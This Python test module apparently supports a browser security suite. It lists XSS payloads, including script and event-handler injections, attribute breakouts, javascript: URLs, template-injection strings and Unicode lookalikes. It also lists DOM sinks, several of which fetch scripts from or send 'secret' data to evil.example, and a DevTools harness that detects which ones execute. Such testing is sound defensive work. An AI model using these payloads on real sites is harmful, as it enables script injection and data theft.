"""What attackers type and serve. Whatever of it runs calls `pwn`, which the browser tells the test."""

from browser import Page

CORPUS = (
    # markup
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "</title><script>pwn()</script>",
    "</script><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "--><script>pwn()</script><!--",
    "]]><script>pwn()</script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<img src=x onerror=pwn()>",
    '<img src="x" onerror="pwn()">',
    "<img/src='x'/onerror='pwn()'>",
    "<image src=x onerror=pwn()>",
    "<body onload=pwn()>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    '<svg><a href="javascript:pwn()"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>pwn()</script></svg>#x"/></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=pwn()>",
    "<details open ontoggle=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<iframe src=javascript:pwn()>",
    "<object data=javascript:pwn()>",
    "<embed src=javascript:pwn()>",
    "<form action=javascript:pwn()><button autofocus>x",
    "<a href=javascript:pwn() autofocus>x</a>",
    "<base href=javascript:pwn()//>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<template shadowrootmode=open><script>pwn()</script></template>",
    "<marquee onstart=pwn()>x</marquee>",
    "<style>*{background:url(javascript:pwn())}</style>",
    '<div style="width:expression(pwn())">x</div>',
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    # out of an attribute
    '" onmouseover="pwn()" autofocus onfocus="pwn()" x="',
    "' onmouseover='pwn()' autofocus onfocus='pwn()' x='",
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    "` onmouseover=pwn() `",
    # links, scripts, styles, templates
    "javascript:pwn()",
    "JaVaScRiPt:pwn()//http://x",
    "java&#115;cript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "';pwn();//",
    '";pwn();//',
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "${pwn()}",
    "{{ pwn() }} {{7*7}}{% raw %}",
    "{{constructor.constructor('pwn()')()}}",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "}*{background:red}@import 'https://evil.example/x.css';",
    "url(javascript:pwn())",
    '=HYPERLINK("javascript:pwn()","x")',
)
# What names of certificates can hold besides: fullwidth and other lookalikes of < and >, overlong forms.
UNICODE = (
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "\u2039img src=x onerror=pwn()\u203a",
    "\u02c2script\u02c3pwn()\u02c2/script\u02c3",
    "<\u0307script>pwn()</script>",
    "<img src=x onerror=\u00a0pwn()>",
    "\u00bcscript\u00bepwn()\u00bc/script\u00be",
    "<\u017fcript>pwn()</\u017fcript>",  # the long s is s in upper case
    "\U000e0041<script>pwn()</script>",
)

FOREIGN = "https://evil.example"

# Ways in which a script, had it got in, would get further. Each is run as a script of the page.
SINKS = {
    "inline script": "const s = make('script'); s.textContent = 'pwn()'; place(s)",
    "script.text": "const s = make('script'); s.text = 'pwn()'; place(s)",
    "foreign script": f"const s = make('script'); s.src = '{FOREIGN}/x.js'; place(s)",
    "data script": "const s = make('script'); s.src = 'data:text/javascript,pwn()'; place(s)",
    "blob script": "const s = make('script'); s.src = URL.createObjectURL(new Blob(['pwn()'])); place(s)",
    "eval": "eval('pwn()')",
    "Function": "new Function('pwn()')()",
    "constructor": "(() => {}).constructor('pwn()')()",
    "setTimeout": "setTimeout('pwn()')",
    "setInterval": "setInterval('pwn()', 1)",
    "innerHTML": "const d = make('div'); place(d); d.innerHTML = '<img src=x onerror=pwn()>'",
    "outerHTML": "const d = make('div'); place(d); d.outerHTML = '<img src=x onerror=pwn()>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=pwn()>')",
    "document.write": "document.write('<img src=x onerror=pwn()>')",
    "DOMParser": "place(new DOMParser().parseFromString('<script>pwn()</script>', 'text/html').scripts[0])",
    "parseHTMLUnsafe": "Document.parseHTMLUnsafe('<img src=x onerror=pwn()>')",
    "setHTMLUnsafe": "const d = make('div'); place(d); d.setHTMLUnsafe('<img src=x onerror=pwn()>')",
    "fragment": "place(document.createRange().createContextualFragment('<img src=x onerror=pwn()>'))",
    "srcdoc": "const f = make('iframe'); f.srcdoc = '<script>parent.pwn()</script>'; place(f)",
    "frame": "const f = make('iframe'); f.src = 'javascript:parent.pwn()'; place(f)",
    "data frame": "const f = make('iframe'); f.src = 'data:text/html,<script>pwn()</script>'; place(f)",
    "handler": "const i = make('img'); i.setAttribute('onerror', 'pwn()'); i.src = 'x'; place(i)",
    "javascript link": "const a = make('a'); a.href = 'javascript:pwn()'; place(a); a.click()",
    "javascript address": "location.href = 'javascript:pwn()'",
    "javascript window": "open('javascript:opener.pwn()')",
    "object": "const o = make('object'); o.data = 'data:text/html,<script>parent.pwn()</script>'; place(o)",
    "blob worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"/pwned\")']))); throw Error('made')",
    "data worker": "new Worker('data:text/javascript,1')",
    "foreign worker": f"new Worker('{FOREIGN}/x.js')",
    "wasm": "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); pwn()",
    "data import": "await import('data:text/javascript,pwn()')",
    "blob import": "await import(URL.createObjectURL(new Blob(['pwn()'], { type: 'text/javascript' })))",
    "foreign import": f"await import('{FOREIGN}/x.js')",
    "policy": "trustedTypes.createPolicy('p', { createHTML: (x) => x }); pwn()",
    "default policy": "trustedTypes.createPolicy('default', { createHTML: (x) => x }); pwn()",
    "style element": "const s = make('style'); s.textContent = 'body{--pwned:1}'; place(s); styled()",
    "style attribute": "document.body.setAttribute('style', '--pwned:1'); styled()",
    "foreign style": f"const l = make('link'); l.rel = 'stylesheet'; l.href = '{FOREIGN}/x.css'; place(l)",
    "fetch": f"await fetch('{FOREIGN}/?secret', {{ mode: 'no-cors' }}); pwn()",
    "beacon": f"navigator.sendBeacon('{FOREIGN}/', 'secret')",
    "socket": "new WebSocket('wss://evil.example/').onopen = pwn",
    "events": f"new EventSource('{FOREIGN}/').onopen = pwn",
    "image": f"new Image().src = '{FOREIGN}/?secret'",
    "form": f"const f = make('form'); f.action = '{FOREIGN}/'; f.method = 'post'; place(f); f.submit()",
    "base": f"const b = make('base'); b.href = '{FOREIGN}/'; document.head.append(b); rebased()",
    "service worker": "await navigator.serviceWorker.register('data:text/javascript,1'); pwn()",
}
TOOLS = f"""
    const make = (tag) => document.createElement(tag), place = (element) => document.body.append(element);
    const styled = () => getComputedStyle(document.body).getPropertyValue("--pwned") && pwn();
    const rebased = () => new URL("x", document.baseURI).origin === "{FOREIGN}" && pwn();
"""


async def watch(page: Page) -> list[str]:
    """Give every script in the page, and in pages to come, `pwn`; return the list of who called it."""
    called: list[str] = []
    before = page.hear

    def hear(event: str, said: dict[str, object]) -> None:
        if event == "Runtime.bindingCalled":
            called.append(str(said.get("payload")))
        before(event, said)

    page.connection.listeners[page.session] = hear
    await page.send("Runtime.addBinding", name="pwned")
    source = "globalThis.pwn = () => globalThis.pwned(location.href);"
    await page.send("Page.addScriptToEvaluateOnNewDocument", source=source)
    return called
